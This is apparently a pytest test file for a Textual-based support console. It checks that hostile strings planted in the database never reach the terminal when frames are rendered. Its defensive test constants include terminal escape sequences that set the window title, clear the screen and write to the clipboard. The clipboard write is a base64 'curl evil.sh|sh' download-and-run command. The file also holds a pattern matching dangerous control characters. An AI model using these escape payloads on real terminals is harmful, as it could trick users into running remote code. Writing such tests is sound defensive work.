"""Hostile strings never reach the terminal: not through the store, not through the console's renderer.

The rows here are written with raw SQL, as a desk file from an older version
(or edited by hand) would hold them, so only the console's own guard stands
between them and the terminal. What is checked is the byte stream Textual
would write to the terminal for a whole frame.
"""

from __future__ import annotations

import re
import sqlite3

import pytest
from rich.text import Text
from textual.content import Content

from store.db import iso
from store.operators import OperatorNameError
from tests.tui_support import FROZEN, frozen_clock, screen_text, seed, wait_until
from tui.app import ConsoleApp
from tui.render import guard_terminal_output
from tui.screens.dialogs import Confirm
from tui.screens.main import MainScreen

TITLE = "\x1b]0;PWNED-TITLE\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # "curl evil.sh|sh" into the clipboard
CLEAR = "\x1b[2J\x1b[H"
EVE = f"eve{CLIPBOARD}"

# What Textual itself writes in a frame: SGR styles, cursor moves, and OSC 8 links.
_TEXTUAL_OWN = re.compile(r"\x1b\[[0-9;:]*[mHG]|\x1b\[\?(?:25|2026)[hl]|\x1b]8;[^\x1b\x07]*\x1b\\")
_DANGEROUS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def frame_bytes(app) -> str:
    """The terminal sequence Textual would write for the whole current screen."""
    update = app.screen._compositor.render_full_update()
    return update.render_segments(app.console)


def assert_frame_inert(app) -> None:
    frame = frame_bytes(app)
    rest = _TEXTUAL_OWN.sub("", frame).replace("\r\n", "\n")
    dangerous = _DANGEROUS.search(rest)
    assert dangerous is None, repr(dangerous.group())
    for payload in ("PWNED-TITLE", "Y3VybCBldmlsLnNofHNo", "]52;", "]0;"):
        assert payload not in frame


def plant_raw_rows(path: str) -> int:
    """Hostile rows written past the store, as an older version would have; returns the mention id."""
    conn = sqlite3.connect(path)
    with conn:
        mention_id = conn.execute("SELECT max(id) FROM mentions").fetchone()[0]
        at = iso(FROZEN)
        conn.execute("INSERT INTO notes (mention_id, operator, at, text) VALUES (?, ?, ?, ?)",
                     (mention_id, EVE, at, f"call back{TITLE} today{CLEAR}"))
        conn.execute("INSERT INTO handover_notes (operator, at, text) VALUES (?, ?, ?)",
                     (EVE, at, f"watch the refund queue{TITLE}{CLIPBOARD}"))
        conn.execute("INSERT INTO source_status (source, state, detail, updated_at) VALUES (?, ?, ?, ?)",
                     ("bluesky:brand.example", "auth failed", f"PDS said: {TITLE}{CLIPBOARD}bad password", at))
        conn.execute("""INSERT INTO replies (mention_id, text, operator, created_at, state, idem_key, error)
                        VALUES (?, ?, ?, ?, 'failed', 'k-hostile', ?)""",
                     (mention_id, f"sorry{CLEAR}", EVE, at, f"server: {TITLE}rejected"))
        conn.execute("INSERT INTO assignments (mention_id, operator, by, at) VALUES (?, ?, ?, ?)",
                     (mention_id, EVE, EVE, at))
        conn.execute("INSERT INTO events (at, operator, action, mention_id, detail) VALUES (?, ?, 'note.add', ?, ?)",
                     (at, EVE, mention_id, '{"text": "noted \\u001b]0;PWNED-TITLE\\u0007"}'))
    conn.close()
    return mention_id


@pytest.fixture
def db_path(tmp_path):
    path = str(tmp_path / "desk.db")
    seed(path)
    return path


def test_the_guard_reaches_rich_text_and_textual_content():
    # If a Textual or Rich upgrade renames the functions the guard extends, this fails first.
    guard_terminal_output()
    assert Text(f"a{TITLE}b{CLIPBOARD}c").plain == "abc"
    assert Text.assemble((f"x{CLEAR}", "bold"), "y").plain == "xy"
    assert Content(f"a{CLIPBOARD}b\u202ec").plain == "abc"
    assert Content.from_markup(f"[b]a{TITLE}[/b]").plain == "a"
    assert Text("tabs\tand\nlines stay").plain == "tabs\tand\nlines stay"


async def test_hostile_rows_render_inert_everywhere(db_path):
    mention_id = plant_raw_rows(db_path)
    app = ConsoleApp(db_path, operator="alice", clock=frozen_clock)
    async with app.run_test(size=(120, 40)) as pilot:
        # The greeting shows the handover note left by "eve".
        await wait_until(pilot, lambda: "watch the refund queue" in screen_text(app))
        assert_frame_inert(app)
        await pilot.press("escape")
        await wait_until(pilot,
                         lambda: isinstance(app.screen, MainScreen) and app.screen.inbox.selected_id == mention_id)
        # Top bar (account error), inbox row (assignee), mention view (note, failed reply, its error, history).
        await wait_until(pilot, lambda: "PDS said" in screen_text(app) and "call back" in screen_text(app)
                         and "rejected" in screen_text(app))
        text = screen_text(app)
        assert "eve" in text and "bad password" in text
        assert_frame_inert(app)
        await pilot.press("H")  # the handover report: operators, notes, failed replies
        await wait_until(pilot, lambda: "Handover since" in screen_text(app))
        assert_frame_inert(app)
        await pilot.press("escape")
        await pilot.press("E")  # the failed reply's text in the composer
        await wait_until(pilot, lambda: "sorry" in screen_text(app))
        assert_frame_inert(app)
        # Nothing the app itself owns changed either.
        assert app.title == "mentiondesk"
        assert app.clipboard == ""


@pytest.mark.parametrize("name", [EVE, "eve\u202e", "ma\u200bra", " eve", "e" * 65, "", "eve\nbob"])
def test_the_console_refuses_an_unusable_operator_name(db_path, name):
    with pytest.raises(OperatorNameError):
        ConsoleApp(db_path, operator=name, clock=frozen_clock)


async def test_a_name_that_looks_like_markup_is_shown_literally(db_path):
    # A valid operator name may hold brackets: the toast must not read it as markup (or a click action).
    app = ConsoleApp(db_path, operator="alice", clock=frozen_clock)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await wait_until(pilot, lambda: isinstance(app.screen, MainScreen) and app.screen.inbox.selected_id is not None)
        await pilot.press("a", *["backspace"] * len("alice"), *"[b]bo[/b]", "enter")
        # Nobody called that has used the desk: the console asks first, showing the name literally too.
        await wait_until(pilot, lambda: isinstance(app.screen, Confirm))
        assert "Nobody called '[b]bo[/b]'" in screen_text(app)
        await pilot.press("y")
        await wait_until(pilot, lambda: "Assigned to [b]bo[/b]" in screen_text(app))
